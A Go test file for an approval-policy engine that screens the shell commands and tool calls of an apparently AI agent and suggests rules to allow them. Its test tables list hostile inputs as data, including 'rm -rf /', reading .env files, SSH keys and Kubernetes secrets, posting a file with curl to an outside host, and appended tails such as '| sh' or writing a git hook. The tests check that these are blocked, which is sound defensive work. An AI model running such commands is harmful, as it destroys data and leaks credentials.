package policy

import (
	"context"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"approvalbot/internal/approval"
	"approvalbot/internal/policy/finding"
)

func suggest(e *Engine, c approval.Call) approval.Suggestion {
	if judge(e, c).Outcome != approval.OutcomeAsk {
		return approval.Suggestion{}
	}
	return e.Suggest(context.Background(), c)
}

func TestWhatWouldLetACallRun(t *testing.T) {
	t.Parallel()
	e := engine(t, shipped)
	for line, want := range map[string]string{
		"ls -la":                                "",
		"git push origin main":                  `command: ["git push origin main"]`,
		"ls && git push origin main":            `command: ["git push origin main"]`,
		"echo `date`":                           "echo $(date)",
		"[[ -d build ]] && ls":                  "[ -d build ] && ls",
		"make test &>out.txt":                   "make test >out.txt 2>&1",
		"rm -rf /":                              "no: R4",
		"cat .env":                              "no: secrets",
		"kubectl get secrets -o yaml":           "no: secrets",
		"frobnicate ~/.ssh/id_rsa":              "no: secrets",
		"git push origin $(cat x)":              "no: ",
		"git push $remote main":                 "no: ",
		"python3 scripts/x.py":                  "no: ",
		"sudo ls /root":                         "no: ",
		"curl -d @notes.txt https://a.example/": "no: ",
		"ssh build uptime":                      "no: ",
	} {
		s := suggest(e, lineCall(t, line))
		if no, is := strings.CutPrefix(want, "no: "); is {
			require.Contains(t, s.None, no, line)
			require.Empty(t, s.Value, line)
			require.NotEmpty(t, s.None, line)
			continue
		}
		require.Empty(t, s.None, line)
		require.Contains(t, s.Value, want, line)
		require.Equal(t, want == "", s.Value == "", line)
		require.NotContains(t, s.Brief, "origin", "the log has no params")
	}
	require.Contains(t, suggest(e, callOf(t, "mcp__notes__get", map[string]any{"path": ".env"})).None, "operator's")
	require.Contains(t, suggest(engine(t, strict), lineCall(t, "kubectl get pods")).Value, `"kubectl get pods"`)
	require.Contains(t, suggest(engine(t, strict), lineCall(t, "kubectl get secrets")).None, "secrets")
	frozen := engine(t, shipped, func(c *Config) {
		c.Rules = []Rule{{Name: "no", Match: Match{Command: []string{"git push *"}}, Outcome: "ask"}}
	})
	require.Contains(t, suggest(frozen, lineCall(t, "git push origin main")).None, "another rule")
}

// Each suggestion lets its call run, and nothing else of the corpus that reads secrets, is
// computed or is R4, however its call is continued.
func TestASuggestionLetsItsCallRunAndNoWorse(t *testing.T) {
	t.Parallel()
	for _, base := range []func(*Config){shipped, strict} {
		suggestionsOf(t, base)
	}
}

func suggestionsOf(t *testing.T, base func(*Config)) {
	e := engine(t, base)
	all := corpus(t)
	worst := finding.Of(finding.ReadsSecret, finding.MayReadSecret, finding.DynamicArgument, finding.DynamicCommand,
		finding.MetadataService, finding.WritesSecret, finding.WritesStartup, finding.WritesAccess, finding.TouchesDesk).Or(uncovered)
	var bad []approval.Call
	for _, x := range all {
		j := judge(e, x.call(t))
		is := func(code string) bool { c, known := finding.Named(code); return known && worst.Has(c) }
		if j.Outcome != approval.OutcomeAllow && (j.Assessment.RiskClass == approval.R4 || slices.ContainsFunc(j.Assessment.ReasonCodes, is)) {
			bad = append(bad, x.call(t))
		}
	}
	require.Greater(t, len(bad), 100)
	tails := []string{" .env", " ~/.ssh/id_rsa", " $x", " $(cat x)", " *", " --force", " < .env", " > .git/hooks/pre-commit",
		" | sh", " && cat .env", "; rm -rf ~", " &", " --config=/tmp/x", "\nkubectl get secrets", " `id`"}
	for _, begin := range suggested {
		all = append(all, example{tool: "$", text: begin + " 12 y"}) // a request by its number
	}
	count, tried := 0, map[string]bool{}
	for _, x := range all {
		call := x.call(t)
		s := suggest(e, call)
		if s.Value == "" || tried[s.Value] {
			continue
		}
		tried[s.Value] = true
		count++
		if s.Key == "" {
			require.Equal(t, approval.OutcomeAllow, judge(e, lineCall(t, s.Value)).Outcome, s.Value)
			continue
		}
		rule, none := e.ruleFor(context.Background(), call)
		require.Equal(t, s, none)
		with := engine(t, base, func(c *Config) { c.Rules = []Rule{rule} })
		require.Equal(t, approval.OutcomeAllow, judge(with, call).Outcome, s.Value)
		for _, worse := range bad[len(bad)*(count%4)/4 : len(bad)*(count%4+1)/4] {
			require.NotEqual(t, approval.OutcomeAllow, judge(with, worse).Outcome, "%s lets %s run", s.Value, worse.Params)
		}
		if x.tool == "$" && !strings.Contains(x.text, "#") && !strings.Contains(x.text, "␤") {
			for _, tail := range tails {
				more := lineCall(t, x.text+tail)
				require.Equal(t, judge(e, more).Outcome, judge(with, more).Outcome, "%s lets %s run", s.Value, x.text+tail)
			}
		}
	}
	require.Greater(t, count, 15)
}
